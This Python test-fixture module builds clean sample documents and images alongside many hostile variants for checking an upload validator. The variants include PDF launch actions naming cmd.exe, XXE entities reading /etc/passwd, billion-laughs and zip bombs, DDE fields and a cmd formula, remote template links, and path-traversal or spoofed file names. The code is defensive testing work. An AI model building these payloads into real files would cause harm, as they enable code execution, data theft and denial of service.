"""Files made by program: good ones as officers have them, and hostile ones, each a kind, a trick and a name."""

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Iterator

from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

from mosovo import pdf

File = tuple[str, bytes]
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
S = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MAIN = {
    "docx": ("word/document.xml", "wordprocessingml.document.main"),
    "xlsx": ("xl/workbook.xml", "spreadsheetml.sheet.main"),
}
KINDS = ("pdf", "jpg", "png", "docx", "xlsx", "txt")
BOMB = b"0" * (30 * 1024 * 1024)
OTHER_ENDINGS = ("exe", "svg", "html", "js", "docm", "xlsm", "zip", "msg", "eml", "rtf", "doc", "xls", "hta", "lnk", "")


def types(kind: str, more: str = "") -> str:
    main, said = MAIN[kind]
    return (
        '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/{main}" ContentType="application/vnd.openxmlformats-officedocument.{said}+xml"/>{more}'
        "</Types>"
    )


def relations(*lines: str) -> str:
    return f'<?xml version="1.0"?><Relationships xmlns="{RELS}">{"".join(lines)}</Relationships>'


def body(kind: str, inside: str) -> str:
    if kind == "docx":
        return f'<w:document xmlns:w="{W}"><w:body><w:p><w:r>{inside}</w:r></w:p></w:body></w:document>'
    return f'<workbook xmlns="{S}"><sheets><sheet name="Sheet1" sheetId="1"/></sheets>{inside}</workbook>'


def office(kind: str, *, inside: str = "", parts: dict[str, bytes | str] | None = None, **changed: str) -> bytes:
    """A document as its parts; ``changed``: another types, rels or main part."""
    main = MAIN[kind][0]
    text = inside or ("<w:t>Invented.</w:t>" if kind == "docx" else "")
    whole: dict[str, bytes | str] = {
        "[Content_Types].xml": changed.get("types", types(kind)),
        "_rels/.rels": relations(f'<Relationship Id="r1" Type="{OFFICE}/officeDocument" Target="{main}"/>'),
        main: changed.get("main", body(kind, text)),
        **(parts or {}),
    }
    return packed(whole)


def packed(parts: dict[str, bytes | str]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(zipfile.ZipInfo(name), content, zipfile.ZIP_DEFLATED)
    return out.getvalue()


def picture(kind: str, chance: random.Random, **options: object) -> bytes:
    out = io.BytesIO()
    size = (chance.randint(8, 160), chance.randint(8, 120))
    image = Image.frombytes("RGB", size, chance.randbytes(size[0] * size[1] * 3))
    image.save(out, {"jpg": "JPEG", "png": "PNG"}[kind], **options)
    return out.getvalue()


def plain_pdf(number: int = 0) -> bytes:
    return pdf.render(f'<html lang="en"><title>Invented {number}</title><p>Page {number}</p></html>')


def good(kind: str, number: int) -> bytes:
    chance = random.Random(number)  # noqa: S311 # always the same
    if kind == "pdf":
        return plain_pdf(number)
    if kind in {"jpg", "png"}:
        exif = Image.Exif()
        exif[0x010F] = "Invented camera"
        more = {"exif": exif} if number % 2 else {"progressive": True} if kind == "jpg" else {}
        return picture(kind, chance, **more)
    if kind == "txt":
        text = f"Note {number}: a < b, £5, “seen” at 5.\r\n"
        return text.encode(("utf-8", "utf-8-sig", "utf-16", "cp1252")[number % 4])
    link = f'<Relationship Id="r2" Type="{OFFICE}/hyperlink" Target="https://example.org/" TargetMode="External"/>'
    where = "word/_rels/document.xml.rels" if kind == "docx" else "xl/_rels/workbook.xml.rels"
    media = f"{'word' if kind == 'docx' else 'xl'}/media/image1.png"
    sheet = f'<worksheet xmlns="{S}"><sheetData><row><c><f>SUM(A1:A{number + 2})</f></c></row></sheetData></worksheet>'
    parts: dict[str, bytes | str] = {where: relations(link), media: picture("png", chance)}
    return office(kind, parts={**parts, "xl/worksheets/sheet1.xml": sheet} if kind == "xlsx" else parts)


def acting_pdf(trick: str) -> bytes:
    writer = PdfWriter(clone_from=io.BytesIO(plain_pdf()))
    if trick == "file":
        writer.add_attachment("other.txt", b"hidden")
    elif trick == "locked":
        writer.encrypt("secret")
    else:
        action = DictionaryObject({NameObject("/S"): NameObject(trick), NameObject("/F"): TextStringObject("cmd.exe")})
        where = "/AA" if trick == "/AA" else "/OpenAction"
        writer.root_object[NameObject(where)] = writer._add_object(action)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def packed_objects(name: bytes) -> bytes:
    """A PDF with an object stream that its table does not name."""
    inside = zlib.compress(b"9 0 <</S " + name + b" /X (app.alert)>>")
    hidden = b"\n99 0 obj\n<</Type /Obj#53tm /N 1 /First 4 /Filter /FlateDecode /Length %d>>\nstream\n" % len(inside)
    before, mark, after = plain_pdf().rpartition(b"startxref")
    return before + hidden + inside + b"\nendstream\nendobj\n" + mark + after


def tricks(kind: str, number: int) -> Iterator[bytes]:
    """Everything that is wrong with a file of this kind."""
    fine = good(kind, number)
    archive = packed({"run.exe": b"MZ" + bytes(50)})
    program = b"MZ" + bytes(200)
    page = b"<html><script>alert(1)</script></html>"
    yield from (b"", program, archive, page, b"\x7fELF" + fine, b"\xd0\xcf\x11\xe0" + bytes(600), b" " + page + fine)
    yield b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
    yield b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'
    yield from (fine + archive, fine + page, page + fine, archive + fine)
    if kind != "txt":
        yield from (fine[: len(fine) // 2], fine[:8], b"x" + fine, fine + program, b"%PDF-1.7\n" * 2 + fine)
    yield from {"pdf": pdf_tricks, "jpg": picture_tricks, "png": picture_tricks, "txt": text_tricks}.get(
        kind, office_tricks
    )(kind, number)


def pdf_tricks(_: str, number: int) -> Iterator[bytes]:
    for trick in ("/JavaScript", "file", "locked", "/Launch", "/SubmitForm", "/GoToE", "/GoToR", "/ImportData", "/AA"):
        yield acting_pdf(trick)
    out = io.BytesIO()
    PdfWriter(clone_from=io.BytesIO(plain_pdf(number))).write(out)
    fine = out.getvalue()
    assert b"/Type /Catalog" in fine
    for name in (b"/JavaScript", b"/J#61vaScript", b"/#4aS", b"/Launch", b"/EmbeddedFile", b"/RichMedia", b"/XFA"):
        yield fine.replace(b"/Type /Catalog", b"/Type /Catalog /OpenAction <</S " + name + b">>")
        yield packed_objects(name)
    yield fine.replace(b"trailer", b"garbage").replace(b"startxref", b"nowhere__").replace(b"/Catalog", b"/Nothing")


def picture_tricks(kind: str, number: int) -> Iterator[bytes]:
    fine = good(kind, number)
    script = b"<script>alert(1)</script>"
    if kind == "jpg":
        yield fine[:2] + b"\xff\xfe" + struct.pack(">H", len(script) + 2) + script + fine[2:]
        yield fine[:2] + b"\xff\xfe" + struct.pack(">H", 12) + b"%PDF-1.7\n\n" + fine[2:]
        frame = fine.find(b"\xff\xc0") if b"\xff\xc0" in fine else fine.find(b"\xff\xc2")
        yield fine[: frame + 5] + b"\xff\xf0\xff\xf0" + fine[frame + 9 :]
        yield fine + b"\0\0ftypmp42" + bytes(100)
        return
    header = struct.pack(">II", 100_000, 100_000) + fine[24:29]
    yield fine[:16] + header + struct.pack(">I", zlib.crc32(b"IHDR" + header)) + fine[33:]
    chunk = b"tEXt" + b"c\0" + script
    yield fine[:33] + struct.pack(">I", len(chunk) - 4) + chunk + struct.pack(">I", zlib.crc32(chunk)) + fine[33:]
    yield fine[:40] + bytes(4) + fine[44:]


def text_tricks(_: str, number: int) -> Iterator[bytes]:
    yield from (b"a\0b", b"a\x1b[2J", b"#!/bin/sh\nrm", b"\x81\x8d\x8f", b"\xff\xfea", b"%PDF-1.7 hello")
    yield from (b"<a href='javascript:x'>", b"<svg/onload=x>", b"<?php x ?>", b"<iframe src=x>", b"Rar!\x1a\x07 text")
    yield from ("<script>x</script>".encode("utf-16"), f"<img src=x onerror=y{number}>".encode("utf-16"))


def office_tricks(kind: str, number: int) -> Iterator[bytes]:
    folder, other = ("word", "xlsx") if kind == "docx" else ("xl", "docx")
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    for declared in (f'<!DOCTYPE a [<!ENTITY l0 "lol">{laughs}]>', '<!DOCTYPE a SYSTEM "http://192.0.2.1/x.dtd">',
                     '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>', "<!DOCTYPE a>"):  # fmt: skip
        yield office(kind, main=declared + body(kind, "&l9;"))
        yield office(kind, parts={f"{folder}/styles.xml": (declared + "<a/>").encode("utf-16")})
    yield office(kind, types=types(kind).replace("document.main", "x").replace("sheet.main", "x"))
    yield office(
        kind, types=types(kind, '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>')
    )
    yield office(kind, types=types(kind).replace("openxmlformats-officedocument", "ms-macroEnabled"))
    yield good(other, number)
    for name in ("vbaProject.bin", "embeddings/oleObject1.bin", "embeddings/other.docx", "activeX/activeX1.xml",
                 "a.exe", "media/a.svg", "media/a.html", "macrosheets/sheet1.xml", "externalLinks/a.xml"):  # fmt: skip
        yield office(kind, parts={f"{folder}/{name}": b"<a/>"})
    for name in ("../evil.xml", "/etc/evil.xml", "word\\..\\evil.xml", "c:evil.xml", "a/./../b.xml", "a\u202elmx.xml"):
        yield office(kind, parts={name: b"<a/>"})
    for inside in (
        b"MZ" + bytes(90),
        b"\x7fELF" + bytes(90),
        packed({"a": b"b"}),
        b"Rar!\x1a\x07\0",
        b"\x1f\x8b\x08\0",
    ):
        yield office(kind, parts={f"{folder}/media/image1.png": inside})
    for sort, target in (("attachedTemplate", "http://192.0.2.1/a.dotm"), ("oleObject", "file:///c:/x"),
                         ("image", "https://192.0.2.1/a.png"), ("hyperlink", "file://192.0.2.1/x"),
                         ("hyperlink", "javascript:x"), ("frame", "http://192.0.2.1/")):  # fmt: skip
        line = f'<Relationship Id="r9" Type="{OFFICE}/{sort}" Target="{target}" TargetMode="External"/>'
        yield office(kind, parts={f"{folder}/_rels/settings.xml.rels": relations(line)})
    if kind == "docx":
        for field in ("DDEAUTO c:\\\\cmd.exe", "DDE cmd x", "INCLUDEPICTURE http://192.0.2.1"):
            yield office(kind, inside=f"<w:instrText>{field}</w:instrText>")
        split = "<w:instrText>DDE</w:instrText><w:instrText>AUTO cmd</w:instrText>"
        yield office(kind, inside=split)
    else:
        for formula in ("=cmd|'/c calc'!A0", 'WEBSERVICE("http://192.0.2.1/")'):
            sheet = f'<worksheet xmlns="{S}"><f>{formula}</f></worksheet>'
            yield office(kind, parts={"xl/worksheets/sheet1.xml": sheet})
    yield office(kind, parts={f"{folder}/a.xml": "<a>" * 400 + "</a>" * 400})
    yield office(kind, parts={f"{folder}/a.xml": "<a>not closed"})
    yield from bombs(kind, folder)
    yield from broken_archives(office(kind))


def bombs(kind: str, folder: str) -> Iterator[bytes]:
    yield office(kind, parts={f"{folder}/media/image1.png": BOMB})
    yield office(kind, parts={f"{folder}/media/image1.png": packed({"inner.zip": packed({"a": BOMB[:5_000_000]})})})
    yield office(kind, parts={f"{folder}/media/i{number}.png": b"x" for number in range(2_001)})


def broken_archives(fine: bytes) -> Iterator[bytes]:
    """The archive's own table telling something else than its parts do."""
    yield fine + b"behind"
    yield fine[:-2] + struct.pack("<H", 6) + b"behind"
    locked = bytearray(fine)
    for mark, flag in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = -1
        while (at := fine.find(mark, at + 1)) >= 0:
            locked[at + flag] |= 1
    yield bytes(locked)
    small = bytearray(fine)
    at = fine.find(b"PK\x01\x02")
    small[at + 24 : at + 28] = struct.pack("<I", 1)
    yield bytes(small)
    hidden = fine.find(b"PK\x01\x02")
    end = bytearray(fine[:hidden] + bytes(40) + fine[hidden:])
    end[-6:-2] = struct.pack("<I", hidden + 40)
    yield bytes(end)


def bad_names(ending: str) -> Iterator[str]:
    """Names that deceive, for a file whose content is as it must be."""
    yield from (f"../../etc/a.{ending}", f"..\\a.{ending}", f"/etc/a.{ending}", f"c:\\a.{ending}", f"a\0.{ending}")
    yield from (
        f"a\u202egpj.{ending}",
        f"a\u200b.{ending}",
        f"a\n.{ending}",
        f".{ending}",
        f"a.{ending}.",
        f"a..{ending}",
    )
    yield from (f"a.exe.{ending}", f"a.js .{ending}", f"a.html.{ending}", f"a.docm.b.{ending}", f"con.{ending}")
    yield from (
        f"{'a' * 300}.{ending}",
        f"a:b.{ending}",
        f"a\uff0fb.{ending}",
        f"a.{ending}\u2024exe",
        f"a.{ending};.exe",
    )


def hostile(number: int) -> Iterator[File]:
    """Every trick of every kind, every other ending, every name, every kind under another's ending."""
    for kind in KINDS:
        fine = good(kind, number)
        for bad in tricks(kind, number):
            yield f"invented.{kind}", bad
        for name in bad_names(kind):
            yield name, fine
        for ending in OTHER_ENDINGS:
            yield f"invented.{ending}", fine
        for other in KINDS:
            if other != kind and not (other == "txt" and kind == "txt"):
                yield f"invented.{other}", fine
